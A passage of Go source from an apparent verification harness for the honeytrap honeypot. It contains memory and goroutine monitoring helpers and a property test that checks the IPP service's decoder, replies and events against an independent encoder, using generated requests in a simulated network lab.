	go hc.Run(ctx)
	tok, _ := os.ReadFile(filepath.Join(dir, "token"))
	if !waitLab {
		return &Server{Run: run, cancel: cancel, Token: string(tok), Dir: dir}, nil
	}
	deadline := time.Now().Add(60 * time.Second)
	for {
		if l := Current(); l != nil {
			select {
			case <-l.started:
				return &Server{L: l, Run: run, cancel: cancel, Token: string(tok), Dir: dir}, nil
			default:
			}
		}
		if time.Now().After(deadline) {
			cancel()
			return nil, fmt.Errorf("server did not start its listener")
		}
		time.Sleep(time.Millisecond)
	}
}

func (s *Server) Stop() { s.cancel() }

// TCP / UDP address helpers.
func TCPAddr(ip string, port int) *net.TCPAddr { return &net.TCPAddr{IP: net.ParseIP(ip), Port: port} }
func UDPAddr(ip string, port int) *net.UDPAddr { return &net.UDPAddr{IP: net.ParseIP(ip), Port: port} }

// ---- samplers -------------------------------------------------------------

type MemSample struct {
	Heap uint64 `json:"heap"`
	RSS  uint64 `json:"rss"`
}

func RSS() uint64 {
	b, err := os.ReadFile("/proc/self/statm")
	if err != nil {
		return 0
	}
	f := strings.Fields(string(b))
	if len(f) < 2 {
		return 0
	}
	n, _ := strconv.ParseUint(f[1], 10, 64)
	return n * uint64(os.Getpagesize())
}

func Mem(gc bool) MemSample {
	if gc {
		runtime.GC()
	}
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return MemSample{Heap: ms.HeapAlloc, RSS: RSS()}
}

// StartMemGuard exits the process with code 3 when resident memory exceeds
// limit, so that an allocation bomb cannot take the sandbox down. When RSS
// passes half the limit the guard pauses the workload (WaitUnpaused blocks), so
// that growth beyond that point is growth *without client input*; if growth
// stops, the workload resumes and the pause threshold is raised. onTrip is
// called first (to log which scenario was running).
func StartMemGuard(limit uint64, onTrip func(rss uint64)) {
	go func() {
		pauseAt := limit / 2
		var pausedSince time.Time
		var rssAtPause uint64
		for {
			time.Sleep(50 * time.Millisecond)
			r := RSS()
			rssMu.Lock()
			rssHist = append(rssHist, r)
			if len(rssHist) > 40 {
				rssHist = rssHist[len(rssHist)-40:]
			}
			rssMu.Unlock()
			if r > limit {
				if onTrip != nil {
					onTrip(r)
				}
				buf := make([]byte, 4<<20)
				n := runtime.Stack(buf, true)
				os.Stderr.Write([]byte("MEMGUARD tripped\n"))
				os.Stderr.Write(buf[:n])
				os.Exit(3)
			}
			if atomic.LoadInt32(&paused) == 0 {
				if r > pauseAt {
					atomic.StoreInt32(&paused, 1)
					pausedSince = time.Now()
					rssAtPause = r
				}
			} else if time.Since(pausedSince) > 4*time.Second {
				if r < rssAtPause+rssAtPause/50 { // growth stopped: resume, raise threshold
					pauseAt = r + r/2
					atomic.StoreInt32(&paused, 0)
				} else {
					pausedSince = time.Now()
					rssAtPause = r
				}
			}
		}
	}()
}

var paused int32

// WaitUnpaused blocks while the memory guard has paused the workload.
func WaitUnpaused() {
	for atomic.LoadInt32(&paused) == 1 {
		time.Sleep(20 * time.Millisecond)
	}
}

var (
	rssMu   sync.Mutex
	rssHist []uint64
)

// RSSHistory returns the guard's last resident-set samples (50 ms apart).
func RSSHistory() []uint64 {
	rssMu.Lock()
	defer rssMu.Unlock()
	return append([]uint64(nil), rssHist...)
}

// GoroutineCensus returns the multiset of goroutine stack signatures that
// contain honeytrap frames (signature = the honeytrap frames, innermost first,
// without arguments/addresses), plus the state of each.
func GoroutineCensus() map[string]int {
	var buf bytes.Buffer
	pprof.Lookup("goroutine").WriteTo(&buf, 2)
	out := map[string]int{}
	for _, blk := range strings.Split(buf.String(), "\n\n") {
		lines := strings.Split(blk, "\n")
		if len(lines) == 0 || !strings.HasPrefix(lines[0], "goroutine ") {
			continue
		}
		var fr []string
		for _, ln := range lines[1:] {
			if strings.HasPrefix(ln, "\t") || strings.HasPrefix(ln, "created by ") {
				if strings.HasPrefix(ln, "created by github.com/honeytrap/honeytrap/") {
					c := strings.TrimPrefix(ln, "created by github.com/honeytrap/honeytrap/")
					if i := strings.Index(c, " in goroutine"); i > 0 {
						c = c[:i]
					}
					fr = append(fr, "created-by:"+c)
				}
				continue
			}
			if strings.HasPrefix(ln, "github.com/honeytrap/honeytrap/") {
				f := strings.TrimPrefix(ln, "github.com/honeytrap/honeytrap/")
				if i := strings.LastIndex(f, "("); i > 0 {
					f = f[:i]
				}
				fr = append(fr, f)
			}
		}
		if len(fr) == 0 {
			continue
		}
		if len(fr) > 6 {
			// innermost four frames and outermost two (the entry point tells whose goroutine it is)
			fr = append(append([]string(nil), fr[:4]...), fr[len(fr)-2:]...)
		}
		out[strings.Join(fr, " < ")]++
	}
	return out
}

// GoroutineDump returns the full dump (debug=2).
func GoroutineDump() string {
	var buf bytes.Buffer
	pprof.Lookup("goroutine").WriteTo(&buf, 2)
	return buf.String()
}

// FDs lists the open descriptors with their link targets.
func FDs() []string {
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return nil
	}
	var out []string
	for _, e := range ents {
		t, err := os.Readlink("/proc/self/fd/" + e.Name())
		if err != nil {
			continue
		}
		out = append(out, t)
	}
	sort.Strings(out)
	return out
}
