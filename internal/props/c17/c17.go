package c17

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"net/http"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/services/ipp"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C17" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "decoder: every operation sequence up to the tier's length over {Byte,Int16,Int32,Uint32,PeekByte,PeekInt16,Data,Copy(n),Seek(n), n=-3..8} on every buffer (lengths 0..6 x 8 contents from boundary bytes), each under its own recover, compared step by step with a cursor model (return value, Available, error flag); longer sequences/buffers seeded. IPP: generated requests (5 operations, 1..3 groups, 0..6 attributes over every supported value tag, 1..3 values, strings 0..300, document 0..64 KiB) posted through the real dispatcher; reply and event compared with an independent encoder; every request is also decoded by the service's own decoder through the guarded hook ipp.VerifDecode and the flat list of (group tag | value tag, name, value bytes | document length) compared with the encoder's view. Non-trivial = a sequence in which >=1 operation consumed or returned data / an IPP request that was answered; distinct by (buffer, sequence) / request bytes. IPP requests are also delivered in two segments with another client's complete print job served in between (ipp-overlapped). Every second request of ipp-overlapped is sent by a slow receiver (48-byte window) and another client's exchange is served while its reply is on the way. Every fifth ipp request is sent by a client that closes the connection without reading the reply; its event must be there all the same."
}
func (prop) Assumptions() []string {
	return []string{"negative sizes count as 'does not fit'", "Seek with a negative argument inside the buffer is the legitimate rewind the IPP code relies on", "out-of-bounds access is detected by Go's bounds checks on a buffer whose capacity equals its length"}
}

type params struct {
	Mode   string `json:"mode"` // dec | decseed | ipp
	Len    int    `json:"len"`
	First  int    `json:"first"` // first-op index partition for parallelism
	Offset int    `json:"offset"`
	// Overlap: another client's complete request is served between the two segments of the judged one
	Overlap bool `json:"overlap,omitempty"`
}

func buffers(seed int64) [][]byte {
	var out [][]byte
	r := core.NewRng(seed, "C17/buf", 0)
	bb := []byte{0x00, 0x01, 0x7f, 0x80, 0xff}
	for l := 0; l <= 6; l++ {
		fill := func(f func(i int) byte) {
			b := make([]byte, l)
			for i := range b {
				b[i] = f(i)
			}
			out = append(out, b)
		}
		fill(func(int) byte { return 0 })
		fill(func(int) byte { return 0xff })
		fill(func(i int) byte { return []byte{0, 1}[i%2] })
		fill(func(i int) byte { return []byte{0x80, 0, 1, 2, 3, 4}[i] })
		fill(func(i int) byte { return []byte{0xff, 0xfe, 9, 9, 9, 9}[i] })
		fill(func(i int) byte { return []byte{0, 2, 0xaa, 0xbb, 0, 1}[i] })
		fill(func(int) byte { return bb[r.Intn(len(bb))] })
		fill(func(int) byte { return bb[r.Intn(len(bb))] })
	}
	return out
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	var plan []core.Batch
	L := 3
	ippN, ippChunks, seedN := 600, 4, 200000
	if tier == "thorough" {
		L = 4
		ippN, ippChunks, seedN = 24000, 8, 4000000
	}
	nops := len(allOps())
	for f := 0; f < nops; f++ {
		p, _ := json.Marshal(params{Mode: "dec", Len: L, First: f})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("dec/%d", f), N: 1, Params: p, Timeout: 1800})
	}
	p, _ := json.Marshal(params{Mode: "decseed", Len: seedN})
	plan = append(plan, core.Batch{Name: "decseed", N: 1, Params: p, Timeout: 1800})
	for c := 0; c < ippChunks; c++ {
		p, _ := json.Marshal(params{Mode: "ipp", Offset: c * (ippN / ippChunks)})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("ipp/%d", c), N: ippN / ippChunks, Params: p, Timeout: 900})
	}
	// the same requests while another client's request is served in the middle of them (the request under
	// judgement arrives in two segments; a complete print job from another address is answered in between)
	p, _ = json.Marshal(params{Mode: "ipp", Offset: 7000000, Overlap: true})
	plan = append(plan, core.Batch{Name: "ipp-overlapped", N: ippN / 4, Params: p, Timeout: 900})
	return plan
}

type decObs struct {
	Sequences  int                  `json:"sequences"`
	Progressed int                  `json:"progressed"`
	Exhaustive bool                 `json:"exhaustive"`
	Len        int                  `json:"len"`
	Classes    map[string]int       `json:"mismatch_classes"`
	Examples   map[string]*mismatch `json:"examples"`
	Sample     []string             `json:"sample"`
}

func childDec(b core.Batch, p params, o *core.Obs) {
	ops := allOps()
	bufs := buffers(b.Seed)
	ob := decObs{Exhaustive: true, Len: p.Len, Classes: map[string]int{}, Examples: map[string]*mismatch{}}
	note := func(mm *mismatch) {
		key := mm.Rule + "|" + mm.Class
		ob.Classes[key]++
		if ob.Examples[key] == nil {
			ob.Examples[key] = mm
		}
	}
	seq := make([]op, 0, p.Len)
	var rec func(depth int)
	rec = func(depth int) {
		if depth > 0 {
			for _, buf := range bufs {
				ob.Sequences++
				mm, prog := runSeq(buf, seq)
				if prog {
					ob.Progressed++
				}
				if mm != nil {
					note(mm)
				}
			}
			if ob.Sample == nil && depth == p.Len {
				for _, s := range seq {
					ob.Sample = append(ob.Sample, s.String())
				}
			}
		}
		if depth == p.Len {
			return
		}
		for i, x := range ops {
			if depth == 0 && i != p.First {
				continue
			}
			seq = append(seq, x)
			rec(depth + 1)
			seq = seq[:len(seq)-1]
		}
	}
	rec(0)
	o.EmitX("dec", ob)
}

func childDecSeed(b core.Batch, p params, o *core.Obs) {
	ops := allOps()
	ob := decObs{Len: 12, Classes: map[string]int{}, Examples: map[string]*mismatch{}}
	bb := []byte{0x00, 0x01, 0x7f, 0x80, 0xff, 0x02, 0x03}
	for i := 0; i < p.Len; i++ {
		r := core.NewRng(b.Seed, "C17/decseed", i)
		buf := make([]byte, r.Range(0, 40))
		for j := range buf {
			buf[j] = bb[r.Intn(len(bb))]
		}
		n := r.Range(5, 12)
		seq := make([]op, n)
		for j := range seq {
			seq[j] = ops[r.Intn(len(ops))]
			if r.Chance(1, 6) && (seq[j].Kind == "Copy" || seq[j].Kind == "Seek") {
				seq[j].N = r.PickI([]int{-40, -5, 9, 16, 39, 40, 41, 1 << 20, -(1 << 20), 1<<62 + 5, -(1 << 62),
					math.MaxInt, math.MaxInt - 1, math.MaxInt - 7, math.MaxInt - 40, math.MinInt, math.MinInt + 1, math.MaxInt32, math.MaxInt32 + 1, math.MinInt32})
			}
		}
		ob.Sequences++
		mm, prog := runSeq(buf, seq)
		if prog {
			ob.Progressed++
		}
		if mm != nil {
			key := mm.Rule + "|" + mm.Class
			ob.Classes[key]++
			if ob.Examples[key] == nil {
				ob.Examples[key] = mm
			}
		}
		if i == 0 {
			for _, s := range seq {
				ob.Sample = append(ob.Sample, s.String())
			}
		}
	}
	o.EmitX("dec", ob)
}

// ---- IPP -------------------------------------------------------------------------

type ippAttr struct {
	Tag    byte     `json:"tag"`
	Name   string   `json:"name"`
	Values []string `json:"values_hex"` // raw value bytes, hex
}

type ippReq struct {
	VMajor, VMinor byte
	Op             int16
	ReqID          int32
	Charset, Lang  string
	URI            string
	User, Job, Fmt string
	HasUser        bool
	Groups         [][]ippAttr // extra attributes: index 0 goes into the operation group, the rest into job/printer groups
	GroupTags      []byte
	Doc            []byte
	Chunked        bool
}

var strTags = []byte{0x44, 0x47, 0x45, 0x48, 0x49, 0x41, 0x42}

func mkIPP(seed int64, idx int) ippReq {
	r := core.NewRng(seed, "C17/ipp", idx)
	q := ippReq{VMajor: byte(r.PickI([]int{1, 2})), VMinor: byte(r.Intn(2)), Op: int16(r.PickI([]int{2, 2, 2, 4, 5, 9, 0xb})), ReqID: int32(r.Intn(1 << 30)),
		Charset: r.PickS([]string{"utf-8", "us-ascii"}), Lang: r.PickS([]string{"en", "en-us", "nl"}), URI: "ipp://printer.test/printers/" + r.Alnum(r.Range(1, 12))}
	if r.Chance(3, 4) {
		q.HasUser = true
		q.User, q.Job = r.Alnum(r.Range(0, 20)), r.Alnum(r.Range(0, 300))
		q.Fmt = r.PickS([]string{"application/pdf", "application/octet-stream", "image/pwg-raster"})
	}
	ng := r.Range(1, 3)
	tags := []byte{0x01, 0x02, 0x04}
	for g := 0; g < ng; g++ {
		var attrs []ippAttr
		for a := r.Range(0, 6) / ng; a >= 0 && len(attrs) < 6; a-- {
			if r.Chance(1, 3) && a == 0 {
				break
			}
			at := ippAttr{Name: "x-" + r.Alnum(r.Range(1, 10))}
			nv := r.Range(1, 3)
			switch r.Intn(5) {
			case 0: // integer
				at.Tag = 0x21
				for v := 0; v < nv; v++ {
					at.Values = append(at.Values, hex.EncodeToString(binary.BigEndian.AppendUint32(nil, uint32(r.U64()))))
				}
			case 1: // enum
				at.Tag = 0x23
				for v := 0; v < nv; v++ {
					at.Values = append(at.Values, hex.EncodeToString(binary.BigEndian.AppendUint32(nil, uint32(r.Intn(10)))))
				}
			case 2: // boolean
				at.Tag = 0x22
				for v := 0; v < nv; v++ {
					at.Values = append(at.Values, hex.EncodeToString([]byte{byte(r.Intn(2))}))
				}
			case 3: // rangeOfInteger (single value)
				at.Tag = 0x33
				at.Values = []string{hex.EncodeToString(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, uint32(r.Intn(100))), uint32(100+r.Intn(100))))}
			default: // string kinds
				at.Tag = strTags[r.Intn(len(strTags))]
				for v := 0; v < nv; v++ {
					at.Values = append(at.Values, hex.EncodeToString([]byte(r.Alnum(r.PickI([]int{0, 1, 5, 40, 300})))))
				}
			}
			attrs = append(attrs, at)
		}
		q.Groups = append(q.Groups, attrs)
		q.GroupTags = append(q.GroupTags, tags[g])
	}
	if q.Op == 2 || r.Chance(1, 4) {
		q.Doc = r.Bytes(r.PickI([]int{0, 1, 100, 5000, 65536}))
	}
	q.Chunked = r.Chance(1, 5)
	return q
}

// encode is the independent IPP encoder (RFC 8010 section 3).
func (q ippReq) encode() []byte {
	b := []byte{q.VMajor, q.VMinor}
	b = binary.BigEndian.AppendUint16(b, uint16(q.Op))
	b = binary.BigEndian.AppendUint32(b, uint32(q.ReqID))
	attr := func(tag byte, name string, vals ...[]byte) {
		for i, v := range vals {
			b = append(b, tag)
			if i == 0 {
				b = binary.BigEndian.AppendUint16(b, uint16(len(name)))
				b = append(b, name...)
			} else {
				b = append(b, 0, 0)
			}
			b = binary.BigEndian.AppendUint16(b, uint16(len(v)))
			b = append(b, v...)
		}
	}
	for g, attrs := range q.Groups {
		b = append(b, q.GroupTags[g])
		if g == 0 {
			attr(0x47, "attributes-charset", []byte(q.Charset))
			attr(0x48, "attributes-natural-language", []byte(q.Lang))
			attr(0x45, "printer-uri", []byte(q.URI))
			if q.HasUser {
				attr(0x42, "requesting-user-name", []byte(q.User))
				attr(0x42, "job-name", []byte(q.Job))
				attr(0x49, "document-format", []byte(q.Fmt))
			}
		}
		for _, a := range attrs {
			var vs [][]byte
			for _, h := range a.Values {
				v, _ := hex.DecodeString(h)
				vs = append(vs, v)
			}
			attr(a.Tag, a.Name, vs...)
		}
	}
	b = append(b, 0x03)
	return append(b, q.Doc...)
}

// flat is the request as the independent encoder sees it, in the form of the hook ipp.VerifDecode: header, group
// tags, one entry per attribute value (the name on the first value of an attribute), the end tag and the length of
// the document.
func (q ippReq) flat() []string {
	out := []string{fmt.Sprintf("header %d.%d %d %d", q.VMajor, q.VMinor, q.Op, q.ReqID)}
	attr := func(tag byte, name string, vals ...[]byte) {
		for i, v := range vals {
			n := name
			if i > 0 {
				n = ""
			}
			out = append(out, fmt.Sprintf("value %02x %q %x", tag, n, v))
		}
	}
	for g, attrs := range q.Groups {
		out = append(out, fmt.Sprintf("group %02x", q.GroupTags[g]))
		if g == 0 {
			attr(0x47, "attributes-charset", []byte(q.Charset))
			attr(0x48, "attributes-natural-language", []byte(q.Lang))
			attr(0x45, "printer-uri", []byte(q.URI))
			if q.HasUser {
				attr(0x42, "requesting-user-name", []byte(q.User))
				attr(0x42, "job-name", []byte(q.Job))
				attr(0x49, "document-format", []byte(q.Fmt))
			}
		}
		for _, a := range attrs {
			var vs [][]byte
			for _, h := range a.Values {
				v, _ := hex.DecodeString(h)
				vs = append(vs, v)
			}
			attr(a.Tag, a.Name, vs...)
		}
	}
	out = append(out, "group 03", fmt.Sprintf("data %d", len(q.Doc)))
	return out
}

type ippObs struct {
	// DecodeDiff: first difference between what the service's decoder made of the request (hook ipp.VerifDecode)
	// and what was encoded; empty when they agree
	DecodeDiff string `json:"decode_diff,omitempty"`
	Decoded    int    `json:"decoded_entries"`
	Status   int    `json:"status"`
	ReplyHex string `json:"reply_hex"`
	Err      string `json:"err,omitempty"`
	Event    bool   `json:"event"`
	URI      string `json:"uri"`
	User     string `json:"user"`
	Job      string `json:"job"`
	DataHex  string `json:"data_hex"`
	Fatal    string `json:"fatal,omitempty"`
	// HangUp: the client sent its request and closed the connection without reading the reply (fire-and-forget
	// printing); the request was received whole and must be reported all the same
	HangUp bool `json:"hang_up,omitempty"`
}

func childIPP(b core.Batch, p params, o *core.Obs) {
	srv, err := lab.Start(`
[listener]
type="lab"
[channel.cap0]
type="lab-capture"
id="cap0"
[[filter]]
channel=["cap0"]
[service.ipp]
type="ipp"
[[port]]
port="tcp/631"
services=["ipp"]
`)
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	to := b.To
	if to == 0 {
		to = b.N
	}
	for k := b.From; k < to; k++ {
		q := mkIPP(b.Seed, p.Offset+k)
		o.Begin(k)
		var ob ippObs
		func() {
			defer func() {
				if r := recover(); r != nil {
					ob.DecodeDiff = fmt.Sprintf("the decoder panicked: %v", r)
				}
			}()
			got, err := ipp.VerifDecode(q.encode())
			want := q.flat()
			ob.Decoded = len(got)
			if err != nil {
				ob.DecodeDiff = "the decoder reports " + err.Error()
				return
			}
			for i := 0; i < len(got) || i < len(want); i++ {
				g, w := "(nothing)", "(nothing)"
				if i < len(got) {
					g = got[i]
				}
				if i < len(want) {
					w = want[i]
				}
				if g != w {
					if len(g) > 90 {
						g = g[:90] + "..."
					}
					if len(w) > 90 {
						w = w[:90] + "..."
					}
					ob.DecodeDiff = fmt.Sprintf("entry %d decoded as [%s], encoded [%s] (%d entries decoded, %d encoded)", i, g, w, len(got), len(want))
					return
				}
			}
		}()
		ev0 := lab.Events.Len()
		port := 10000 + k%50000
		cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 631), lab.TCPAddr("203.0.113.7", port))
		req := gen.HTTPRequest("POST", "/printers/x", [][2]string{{"Host", "printer.test"}, {"Content-Type", "application/ipp"}}, q.encode(), q.Chunked)
		cc.SetDeadline(time.Now().Add(10 * time.Second))
		if p.Overlap && len(req) > 40 {
			// first part, then another client's complete print job, then the rest
			cut := len(req) - len(req)/3
			cc.Write(req[:cut])
			time.Sleep(2 * time.Millisecond)
			other := mkIPP(b.Seed, p.Offset+k+500000)
			oc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 631), lab.TCPAddr("203.0.113.99", port))
			oc.SetDeadline(time.Now().Add(5 * time.Second))
			oc.Write(gen.HTTPRequest("POST", "/printers/y", [][2]string{{"Host", "printer.test"}, {"Content-Type", "application/ipp"}}, other.encode(), false))
			if resp, err := http.ReadResponse(bufio.NewReader(oc), nil); err == nil {
				io.ReadAll(resp.Body)
			}
			oc.Close()
			req = req[cut:]
		}
		if !p.Overlap && k%5 == 4 {
			// fire and forget: the whole request, then the client is gone before any reply
			ob.HangUp = true
			if _, err := cc.Write(req); err != nil {
				ob.Err = "write: " + err.Error()
			}
			cc.Close()
			req = nil
		}
		replyOverlap := p.Overlap && k%2 == 1
		if replyOverlap {
			// a slow receiver: the service can hand over 48 bytes of its reply at a time; while it is in the middle
			// of it another client's complete exchange is served
			cc.SetWindow(48)
		}
		if ob.HangUp {
		} else if _, err := cc.Write(req); err != nil {
			ob.Err = "write: " + err.Error()
		} else {
			if replyOverlap {
				time.Sleep(3 * time.Millisecond)
				other := mkIPP(b.Seed, p.Offset+k+700000)
				oc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 631), lab.TCPAddr("203.0.113.98", port))
				oc.SetDeadline(time.Now().Add(5 * time.Second))
				oc.Write(gen.HTTPRequest("POST", "/printers/z", [][2]string{{"Host", "printer.test"}, {"Content-Type", "application/ipp"}}, other.encode(), false))
				if resp, err := http.ReadResponse(bufio.NewReader(oc), nil); err == nil {
					io.ReadAll(resp.Body)
				}
				oc.Close()
			}
			resp, err := http.ReadResponse(bufio.NewReader(cc), nil)
			if err != nil {
				ob.Err = "read: " + err.Error()
			} else {
				body, _ := io.ReadAll(resp.Body)
				ob.Status = resp.StatusCode
				if len(body) > 4096 {
					body = body[:4096]
				}
				ob.ReplyHex = hex.EncodeToString(body)
			}
		}
		cc.Close()
		lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool {
			for _, e := range evs {
				if sp, _ := lab.Int(e.Rec, "source-port"); int(sp) == port && lab.Str(e.Rec, "source-ip") == "203.0.113.7" {
					return true
				}
			}
			return false
		}, 2*time.Second)
		for _, e := range lab.Events.Since(ev0) {
			if sp, _ := lab.Int(e.Rec, "source-port"); int(sp) != port || lab.Str(e.Rec, "source-ip") != "203.0.113.7" {
				continue // (the other client of an overlapped exchange uses the same port number from another address)
			}
			if lab.Str(e.Rec, "category") == "ipp" {
				ob.Event = true
				ob.URI, ob.User, ob.Job = lab.Str(e.Rec, "ipp.uri"), lab.Str(e.Rec, "ipp.user"), lab.Str(e.Rec, "ipp.job-name")
				ob.DataHex = hex.EncodeToString([]byte(lab.Str(e.Rec, "ipp.data")))
			} else if lab.Str(e.Rec, "type") == "fatal" {
				m := lab.Str(e.Rec, "message")
				if len(m) > 120 {
					m = m[:120]
				}
				ob.Fatal = m
			}
		}
		o.EmitX("ipp", ob)
		o.End(k)
	}
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	switch p.Mode {
	case "dec":
		o.Begin(0)
		childDec(b, p, o)
		o.End(0)
	case "decseed":
		o.Begin(0)
		childDecSeed(b, p, o)
		o.End(0)
	case "ipp":
		childIPP(b, p, o)
	}
}

// ---- judge -------------------------------------------------------------------------

func attrTagsIn(q ippReq) string {
	seen := map[byte]bool{}
	for _, g := range q.Groups {
		for _, a := range g {
			seen[a.Tag] = true
		}
	}
	var o []string
	for _, t := range []byte{0x21, 0x22, 0x23, 0x33, 0x41, 0x42, 0x44, 0x45, 0x47, 0x48, 0x49} {
		if seen[t] {
			o = append(o, fmt.Sprintf("%02x", t))
		}
	}
	return strings.Join(o, ",")
}

// minimalClass names the attribute kind that makes a request fail, by re-encoding
// it with one extra attribute kind at a time removed (pure computation on the request).
func failingKinds(q ippReq) string {
	kinds := map[string]bool{}
	for gi, g := range q.Groups {
		for _, a := range g {
			k := fmt.Sprintf("tag%02x", a.Tag)
			if len(a.Values) > 1 {
				k += "x" + fmt.Sprint(len(a.Values))
			}
			if gi == 0 {
				k += "@op-group"
			}
			kinds[k] = true
		}
	}
	var o []string
	for k := range kinds {
		o = append(o, k)
	}
	sortStrings(o)
	return strings.Join(o, ",")
}

func sortStrings(a []string) {
	for i := 1; i < len(a); i++ {
		for j := i; j > 0 && a[j] < a[j-1]; j-- {
			a[j], a[j-1] = a[j-1], a[j]
		}
	}
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "dec":
			var ob decObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: r.K, Verdict: core.Held, Key: b.Name, Witness: ob}
			res.Sample = map[string]interface{}{"mode": b.Name, "sequences_run": ob.Sequences, "sequences_with_progress": ob.Progressed, "max_len": ob.Len, "exhaustive_for_this_first_op": ob.Exhaustive, "example_sequence": ob.Sample}
			out = append(out, res)
			for key, n := range ob.Classes {
				ex := ob.Examples[key]
				out = append(out, core.Result{K: r.K, Verdict: core.Violated, Sig: "C17|decoder|" + key,
					What:    fmt.Sprintf("decoder %s on %s: got %q, cursor model %q (buffer %s, sequence %v, step %d; %d sequences in this class)", ex.Rule, ex.Class, clip(ex.Got, 80), ex.Want, ex.Buf, ex.Seq, ex.At, n),
					Witness: ex})
			}
		case "ipp":
			var ob ippObs
			if r.XInto(&ob) != nil {
				continue
			}
			q := mkIPP(b.Seed, p.Offset+r.K)
			res := core.Result{K: r.K, Verdict: core.Held}
			fail := func(rule, what string) {
				if res.Verdict == core.Violated {
					return
				}
				res.Verdict = core.Violated
				res.Sig = "C17|ipp|" + rule
				res.What = what
				res.Witness = map[string]interface{}{"request": q, "request_hex": hex.EncodeToString(q.encode()[:mini(len(q.encode()), 600)]), "observed": ob}
			}
			enc := q.encode()
			if ob.Status == 200 {
				res.Key = "ipp|" + hex.EncodeToString(enc[:mini(len(enc), 64)]) + fmt.Sprint(len(enc))
				res.Sample = map[string]interface{}{"mode": "ipp", "operation": q.Op, "request_id": q.ReqID, "groups": len(q.Groups), "value_tags": attrTagsIn(q), "document_bytes": len(q.Doc), "reply_head_hex": ob.ReplyHex[:mini(len(ob.ReplyHex), 64)], "event": ob.Event}
			}
			kinds := failingKinds(q)
			if ob.DecodeDiff != "" {
				fail("ipp-decode|"+kindsClass(q), fmt.Sprintf("the request does not decode to what was encoded: %s; attribute kinds present: %s", ob.DecodeDiff, kinds))
			}
			if ob.HangUp {
				// no reply was waited for: the event is what is judged (document-bearing print jobs; other operations
				// give an event as well)
				res.Key = "ipp-hangup|" + hex.EncodeToString(enc[:mini(len(enc), 64)]) + fmt.Sprint(len(enc))
				res.Sample = map[string]interface{}{"mode": "ipp, client hangs up before the reply", "operation": q.Op, "event": ob.Event}
				switch {
				case ob.Fatal != "":
					fail("handler-panicked|"+panicClass(ob.Fatal), fmt.Sprintf("well-formed IPP request made the handler panic (%s); attribute kinds present: %s", ob.Fatal, kinds))
				case !ob.Event:
					fail("no-event|client-hangs-up-before-the-reply", "a complete IPP request whose client closed the connection without reading the reply produced no ipp event")
				case q.Op == 2 && ob.URI != q.URI:
					fail("event-uri|"+kindsClass(q), fmt.Sprintf("print job event ipp.uri %q, encoded %q; attribute kinds present: %s", ob.URI, q.URI, kinds))
				}
				out = append(out, res)
				continue
			}
			switch {
			case ob.Fatal != "":
				fail("handler-panicked|"+panicClass(ob.Fatal), fmt.Sprintf("well-formed IPP request made the handler panic (%s); attribute kinds present: %s", ob.Fatal, kinds))
			case ob.Status != 200:
				fail("no-reply|"+kindsClass(q), fmt.Sprintf("well-formed IPP request got no 200 reply (%s); attribute kinds present: %s", ob.Err, kinds))
			default:
				rep, _ := hex.DecodeString(ob.ReplyHex)
				if len(rep) < 9 || rep[0] != q.VMajor || rep[1] != q.VMinor {
					fail("reply-version", "reply does not echo the request's version")
				} else if int32(binary.BigEndian.Uint32(rep[4:8])) != q.ReqID {
					fail("reply-request-id", fmt.Sprintf("reply request-id %d, request %d", binary.BigEndian.Uint32(rep[4:8]), q.ReqID))
				} else {
					want := []byte{0x01}
					want = append(want, ippTLV(0x47, "attributes-charset", q.Charset)...)
					want = append(want, ippTLV(0x48, "attributes-natural-language", q.Lang)...)
					if !bytes.HasPrefix(rep[8:], want) {
						fail("reply-charset-language|"+kindsClass(q), fmt.Sprintf("reply's operation attributes do not echo charset %q and language %q; attribute kinds present: %s", q.Charset, q.Lang, kinds))
					}
				}
				if !ob.Event {
					fail("no-event", "answered IPP request produced no ipp event")
				} else if q.Op == 2 {
					data, _ := hex.DecodeString(ob.DataHex)
					switch {
					case ob.URI != q.URI:
						fail("event-uri|"+kindsClass(q), fmt.Sprintf("print job event ipp.uri %q, encoded %q; attribute kinds present: %s", ob.URI, q.URI, kinds))
					case q.HasUser && ob.User != q.User:
						fail("event-user|"+kindsClass(q), fmt.Sprintf("print job event ipp.user %q, encoded %q; kinds: %s", ob.User, q.User, kinds))
					case q.HasUser && ob.Job != q.Job:
						fail("event-job-name|"+kindsClass(q), fmt.Sprintf("print job event ipp.job-name differs (got %d bytes, encoded %d); kinds: %s", len(ob.Job), len(q.Job), kinds))
					case !bytes.Equal(data, q.Doc):
						fail("event-document|"+kindsClass(q), fmt.Sprintf("print job event ipp.data has %d bytes, document has %d; kinds: %s", len(data), len(q.Doc), kinds))
					}
				}
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			v := core.Inconclusive
			out = append(out, core.Result{K: e.LastBegun, Verdict: v, What: fmt.Sprintf("child died (%s %s) in %s", e.Class, e.Frame, b.Name)})
		}
	}
	return out
}

// kindsClass is the minimal input class used in signatures: which of the
// non-string value kinds are present and where.
func kindsClass(q ippReq) string {
	has := map[string]bool{}
	for gi, g := range q.Groups {
		for _, a := range g {
			loc := ""
			if gi == 0 {
				loc = "@op"
			}
			switch a.Tag {
			case 0x21, 0x23:
